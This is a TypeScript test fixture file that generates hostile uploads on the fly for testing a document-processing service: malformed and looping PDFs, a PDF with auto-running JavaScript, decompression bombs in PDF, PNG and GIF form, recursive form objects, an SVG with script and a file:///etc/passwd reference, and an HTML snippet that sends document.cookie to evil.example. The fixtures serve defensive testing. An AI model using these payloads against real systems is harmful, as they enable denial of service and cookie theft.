/** Files as an attacker would hand them in, made on the spot: no sample lies in the repository. For tests only. */
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'

export type Sample = { mediaType: string; name: string; bytes: Uint8Array }

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')

export type PdfObject = string | Buffer
type PdfOptions = { trailer?: string; header?: string; prev?: 'itself' }

/** A PDF of the numbered `objects` (1 is the catalog). */
export function makePdf(
  objects: readonly PdfObject[],
  { trailer = '', header = '%PDF-1.7\n', prev }: PdfOptions = {},
): Buffer {
  const parts: Buffer[] = [latin1(header)]
  const offsets: number[] = []
  let at = header.length
  for (const [index, body] of objects.entries()) {
    const part = Buffer.concat([latin1(`${index + 1} 0 obj\n`), Buffer.from(body as Buffer), latin1('\nendobj\n')])
    offsets.push(at)
    parts.push(part)
    at += part.length
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const previous = prev ? `/Prev ${at}` : ''
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${objects.length + 1}/Root 1 0 R${previous}${trailer}>>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([...parts, latin1(end)])
}

export function stream(content: Uint8Array | string, entries = ''): Buffer {
  const bytes = Buffer.from(content)
  return Buffer.concat([latin1(`<<${entries}/Length ${bytes.length}>>stream\n`), bytes, latin1('\nendstream')])
}

const flate = '/Filter/FlateDecode'

/** One page with this content stream; more objects start at number 5. */
export function onePage(content: PdfObject, more: readonly PdfObject[] = [], resources = ''): Buffer {
  return makePdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<${resources}>>/Contents 4 0 R>>`,
    content,
    ...more,
  ])
}

export const simplePdf = (text = 'Hello'): Buffer =>
  onePage(
    stream(`BT /F1 24 Tf 72 700 Td (${text}) Tj ET`),
    ['<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    '/Font<</F1 5 0 R>>',
  )

/** About `bytes` long, incompressible inside, as a scan would be. */
export function largePdf(bytes: number, pages = 20): Buffer {
  const noise = Buffer.alloc(bytes)
  for (let index = 0, state = 1; index < bytes; index++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff
    noise[index] = state >> 16
  }
  const side = Math.floor(Math.sqrt(bytes / 3))
  const kids = Array.from({ length: pages }, (_, index) => `${5 + index} 0 R`).join(' ')
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</XObject<</I 3 0 R>>>>/Contents 4 0 R>>'
  return makePdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${pages}/Kids[${kids}]>>`,
    stream(
      noise.subarray(0, side * side * 3),
      `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceRGB/BitsPerComponent 8`,
    ),
    stream('q 500 0 0 500 50 50 cm /I Do Q'),
    ...Array.from({ length: pages }, () => page),
  ])
}

export const encryptedPdf = (): Buffer => {
  const secret = '<'.concat('5a'.repeat(32), '>')
  const encrypt = `/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O ${secret}/U ${secret}>>/ID[<00112233><00112233>]`
  return makePdf(
    [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Count 1/Kids[3 0 R]>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
    ],
    {
      trailer: encrypt,
    },
  )
}

export const scriptedPdf = (): Buffer =>
  makePdf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://127.0.0.1:9/"\\);while\\(1\\);)>>>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/JavaScript/JS(while\\(1\\);)>>>>>>',
  ])

/** A page tree whose nodes name each other. */
export const loopingPages = (): Buffer =>
  makePdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 9/Kids[3 0 R]>>',
    '<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]/Parent 2 0 R>>',
  ])

/** A page tree of `depth` levels with one page at its end. */
export function deepPages(depth: number): Buffer {
  const nodes = Array.from({ length: depth }, (_, level) => `<</Type/Pages/Count 1/Kids[${level + 3} 0 R]>>`)
  return makePdf(['<</Type/Catalog/Pages 2 0 R>>', ...nodes, '<</Type/Page/MediaBox[0 0 9 9]>>'])
}

export const loopingXref = (): Buffer =>
  makePdf(
    ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', '<</Type/Page/MediaBox[0 0 9 9]>>'],
    { prev: 'itself' },
  )

export const manyOperators = (count: number): Buffer =>
  onePage(stream(deflateSync(Buffer.from('1 0 0 1 9 9 cm\n'.repeat(count))), flate))

/** Forms that draw each other twelve times over, `levels` deep. */
export function laughingForms(levels: number): Buffer {
  const form = (next: string, xobjects: string) =>
    stream(next, `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<${xobjects}>>`)
  const forms = Array.from({ length: levels }, (_, level) =>
    level === levels - 1 ? form('0 0 1 1 re f', '') : form('/X Do '.repeat(12), `/XObject<</X ${level + 6} 0 R>>`),
  )
  return onePage(stream('/X Do'), forms, '/XObject<</X 5 0 R>>')
}

/** Zeros, `megabytes` of them, deflated without ever holding them. */
export function zeros(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: constants.Z_FULL_FLUSH })
  const last = Buffer.from([3, 0])
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: megabytes }, () => block),
    last,
    Buffer.alloc(4),
  ])
}

export const bombPdf = (megabytes: number): Buffer => onePage(stream(zeros(megabytes), flate))

/** A picture that says it is `width` by `height`, and a few bytes that say so. */
export function bombPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const typed = Buffer.concat([latin1(type), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const check = Buffer.alloc(4)
    check.writeUInt32BE(crc32(typed))
    return Buffer.concat([length, typed, check])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = zeros(Math.ceil((height * (1 + width / 8)) / (1 << 20)))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export const bombGif = (): Buffer =>
  Buffer.concat([
    latin1('GIF89a'),
    Buffer.from('ffffffff800000000000ffffff2c00000000ffffffff000202440100', 'hex'),
    latin1(';'),
  ])

export const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="file:///etc/passwd"/></svg>'
export const html = '<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>'
